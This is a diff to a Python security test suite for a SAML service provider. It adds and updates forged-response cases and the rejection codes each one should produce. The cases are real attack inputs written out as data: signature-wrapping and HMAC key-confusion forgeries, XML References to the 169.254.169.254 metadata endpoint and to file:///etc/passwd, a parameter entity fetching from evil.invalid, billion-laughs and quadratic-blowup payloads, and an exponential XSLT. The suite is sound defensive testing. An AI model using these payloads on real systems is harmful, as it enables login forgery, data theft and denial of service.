@@ -57,8 +57,8 @@ class Forger:
             **overrides: Any) -> str:
         """A response as the team1 application (or ``idp``) signs it; ``overrides`` as build_response."""
         overrides.setdefault("now", self.now)
-        return (idp or self.idp).build_response(
-            user_id=user, team_id=team, audience=ENTITY_ID, acs_url=ACS_URL, **overrides)
+        overrides.setdefault("audience", ENTITY_ID)
+        return (idp or self.idp).build_response(user_id=user, team_id=team, acs_url=ACS_URL, **overrides)
 
 
 Forge = Callable[[Forger], dict[str, Any]]
@@ -207,9 +207,9 @@ SIGNATURE_ATTACKS = [
     ),
     attack("attacker-signed-response-around-genuine-assertion", 401, "signature_invalid",
            posted(stranger_signs_response_over_genuine_assertion)),
-    attack("hmac-keyed-with-idp-certificate-pem", 401, "signature_invalid",
+    attack("hmac-keyed-with-idp-certificate-pem", 401, "signature_algorithm_not_allowed",
            posted(hmac_signed(lambda idp: idp.cert_pem.encode()))),
-    attack("hmac-keyed-with-idp-certificate-der", 401, "signature_invalid",
+    attack("hmac-keyed-with-idp-certificate-der", 401, "signature_algorithm_not_allowed",
            posted(hmac_signed(lambda idp: forge.pem_der(idp.cert_pem)))),
     attack("userid-altered-after-signing", 401, "signature_invalid",
            posted(tampered("assertion", lambda r: forge.set_user(forge.assertion_of(r))))),
@@ -225,14 +225,35 @@ SIGNATURE_ATTACKS = [
     attack("two-signed-assertions", 401, "assertion_count", posted(two_signed_assertions)),
     attack("reference-to-the-response-from-the-assertion", 401, "signature_structure_invalid",
            posted(reference_elsewhere(lambda root: "#" + root.get("ID")))),
-    # python3-saml reads the assertion named by the Reference URI; URI="" names none.
-    attack("reference-to-the-whole-document", 401, "conditions_missing",
+    attack("reference-to-the-whole-document", 401, "signature_structure_invalid",
            posted(reference_elsewhere(lambda root: ""))),
+    *(
+        attack(f"second-reference-to-{name}", 401, "signature_structure_invalid",
+               posted(lambda f, uri=uri: forge.extra_reference(f.xml(), uri)))
+        for name, uri in (("external-url", "http://169.254.169.254/latest/meta-data/"),
+                          ("local-file", "file:///etc/passwd"), ("another-element", "#_other"))
+    ),
+    *(
+        attack(f"transform-{name}", 401, "signature_algorithm_not_allowed",
+               posted(lambda f, algorithm=algorithm, body=body: forge.extra_transform(
+                   f.xml(), algorithm, body)))
+        for name, algorithm, body in (
+            ("xslt-exponential", forge.XSLT, forge.exponential_stylesheet(24)),
+            ("xpath", forge.XPATH, forge.xpath_filter("count(//.) > 0")),
+            ("xpath-filter2", "http://www.w3.org/2002/06/xmldsig-filter2", None),
+            ("base64", "http://www.w3.org/2000/09/xmldsig#base64", None),
+        )
+    ),
+    attack("signature-in-extensions", 401, "signature_structure_invalid",
+           posted(lambda f: forge.signature_moved_to_extensions(f.xml()))),
+    attack("signature-with-manifest-object", 401, "signature_structure_invalid",
+           posted(lambda f: forge.with_manifest(f.xml(), "file:///etc/passwd"))),
     attack("planted-digest-in-extensions", 401, "signature_invalid",
            posted(lambda f: forge.plant_digest(f.xml(), "extensions"))),
-    attack("planted-digest-in-signature-object", 401, "signature_invalid",
+    attack("planted-digest-in-signature-object", 401, "signature_structure_invalid",
            posted(lambda f: forge.plant_digest(f.xml(), "object"))),
-    attack("xinclude-in-userid", 401, "signature_invalid", posted(xinclude_in_user)),
+    # xsi:type xs:string allows no child element: the schema refuses it before the digest does.
+    attack("xinclude-in-userid", 401, "schema_invalid", posted(xinclude_in_user)),
     # The team the broker uses is the whole signed text: "team1-evil" (not bound), never "team1".
     attack("comment-injection-in-teamid-prefix", 403, "team_not_bound_to_application",
            posted(lambda f: forge.comment_split(f.xml(team="team1-evil"), "teamid", "team1-evil", 5))),
@@ -332,18 +353,20 @@ CONTENT_ATTACKS = [
            posted(lambda f: f.xml(attributes={"teamid": ["team1", "team2"]}))),
     attack("teamid-multi-valued-same-value", 401, "team_attribute_multi_valued",
            posted(lambda f: f.xml(attributes={"teamid": ["team1", "team1"]}))),
-    attack("teamid-missing", 401, "team_attribute_missing", posted(lambda f: f.xml(attributes={"teamid": None}))),
+    attack("teamid-missing", 401, "team_attribute_missing",
+           posted(lambda f: f.xml(attributes={"teamid": None}))),
     attack("teamid-empty", 401, "team_attribute_empty", posted(lambda f: f.xml(team=""))),
-    attack("teamid-with-markup", 401, "team_attribute_not_text",
+    attack("teamid-with-markup", 401, "schema_invalid",
            posted(lambda f: f.xml(before_sign=with_markup_in("teamid")))),
-    attack("userid-missing", 401, "user_attribute_missing", posted(lambda f: f.xml(attributes={"userid": None}))),
+    attack("userid-missing", 401, "user_attribute_missing",
+           posted(lambda f: f.xml(attributes={"userid": None}))),
     attack("userid-empty", 401, "user_attribute_empty", posted(lambda f: f.xml(user=""))),
     attack("userid-whitespace", 401, "user_attribute_empty", posted(lambda f: f.xml(user=" \n\t"))),
     attack("userid-duplicated", 401, "user_attribute_repeated",
            posted(lambda f: f.xml(before_sign=with_second_attribute("userid", forge.EVIL_USER)))),
     attack("userid-multi-valued", 401, "user_attribute_multi_valued",
            posted(lambda f: f.xml(attributes={"userid": ["user1", forge.EVIL_USER]}))),
-    attack("userid-with-markup", 401, "user_attribute_not_text",
+    attack("userid-with-markup", 401, "schema_invalid",
            posted(lambda f: f.xml(before_sign=with_markup_in("userid")))),
 ]
 
@@ -358,8 +381,12 @@ DTD_ATTACKS = [
     attack("parameter-entity", 400, "xml_dtd_forbidden",
            posted(lambda f: forge.with_doctype(
                f.xml(), '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.invalid/p.dtd"> %p;]>'))),
-    attack("billion-laughs", 400, "xml_dtd_forbidden",
+    # libxml2 stops entity amplification while parsing, before the DTD check runs.
+    attack("billion-laughs", 400, "xml_invalid",
            posted(lambda f: forge.with_doctype(f.xml(), forge.BILLION_LAUGHS, "&lol9;"))),
+    attack("quadratic-blowup", 400, "xml_invalid",
+           posted(lambda f: forge.with_doctype(
+               f.xml(), f'<!DOCTYPE x [<!ENTITY big "{"A" * 20000}">]>', "&big;" * 2000))),
 ]
 
 REQUEST_ATTACKS = [
@@ -376,7 +403,8 @@ REQUEST_ATTACKS = [
     attack("body-oversized", 413, "body_too_large",
            lambda f: acs_event("SAMLResponse=" + "A" * f.land.routing.service_provider.max_body_bytes * 2)),
     attack("body-oversized-base64-encoded", 413, "body_too_large",
-           lambda f: base64_event_body(b"SAMLResponse=" + b"A" * f.land.routing.service_provider.max_body_bytes)),
+           lambda f: base64_event_body(
+               b"SAMLResponse=" + b"A" * f.land.routing.service_provider.max_body_bytes)),
     attack("body-empty", 400, "saml_response_field_missing_or_repeated", lambda f: acs_event("")),
     attack("body-saml-response-repeated", 400, "saml_response_field_missing_or_repeated",
            lambda f: acs_event(urllib.parse.urlencode([("SAMLResponse", encode(f.xml()))] * 2))),
